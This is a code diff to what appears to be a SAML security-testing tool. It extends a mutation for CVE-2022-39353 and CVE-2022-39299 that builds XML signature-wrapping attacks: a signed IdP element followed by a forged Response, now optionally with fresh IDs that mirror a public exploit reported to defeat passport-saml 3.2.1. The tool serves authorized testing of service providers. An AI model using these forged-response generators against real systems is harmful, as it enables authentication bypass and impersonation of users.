@@ -10,7 +10,7 @@ import type { DomMutation, MutationContext, TextMutation } from '../types.js';
 import { editText } from './basic.js';
 import { one, signatureOf } from './dom.js';
 import { TAIL } from './c14n.js';
-import { swapIn } from './xsw.js';
+import { EVIL_ASSERTION_ID, EVIL_RESPONSE_ID, forgedId, swapIn } from './xsw.js';
 
 /**
  * Where XXE and XInclude payloads point: loopback only, the discard port, so a vulnerable SP's fetch
@@ -82,19 +82,29 @@ export function entitySplicedTail(): TextMutation {
 }
 
 /**
- * XML-05 (CVE-2022-39353, CVE-2022-39299): two top-level elements — first the IdP-signed Assertion
- * of the baseline login, then the same Response with that Assertion unsigned and SWAPped.
+ * XML-05 (CVE-2022-39353, CVE-2022-39299): two top-level elements — first an IdP-signed element of the
+ * baseline login (its signed Assertion; the Response when only the Response is signed), then the same
+ * Response with that element's Signature removed and SWAPped. `copied`: the forged Response keeps the
+ * signed IDs, so an SP counting IDs across the roots (xml-crypto's duplicate-ID check) refuses it;
+ * `fresh`: the forged Response and Assertion get IDs of their own, as the public exploit does, and only
+ * the one-root rule is left to refuse it (passport-saml 3.2.1 on @xmldom/xmldom 0.7.6 falls to it).
  */
-export function signedAssertionThenForgedResponse(): TextMutation {
-  return text('signed Assertion root followed by a forged Response root', (xml, ctx) => {
+export function signedAssertionThenForgedResponse(ids: 'copied' | 'fresh' = 'copied'): TextMutation {
+  return text(`IdP-signed root followed by a forged Response root (${ids} IDs)`, (xml, ctx) => {
     const doc = parseXml(xml);
+    const response = doc.documentElement!;
     const assertion = one(doc, 'Assertion');
-    const signature = signatureOf(assertion);
-    if (!signature) throw new Error('the Assertion is not signed');
-    const signed = serializeXml(assertion);
-    assertion.removeChild(signature);
-    swapIn(doc.documentElement!, ctx);
-    return `${signed}${serializeXml(doc)}`;
+    const signed = signatureOf(assertion) ? assertion : response;
+    const signature = signatureOf(signed);
+    if (!signature) throw new Error('neither the Assertion nor the Response is signed');
+    const first = serializeXml(signed);
+    signed.removeChild(signature);
+    swapIn(response, ctx);
+    if (ids === 'fresh') {
+      response.setAttribute('ID', forgedId(EVIL_RESPONSE_ID, ctx));
+      assertion.setAttribute('ID', forgedId(EVIL_ASSERTION_ID, ctx));
+    }
+    return `${first}${serializeXml(doc)}`;
   });
 }
 
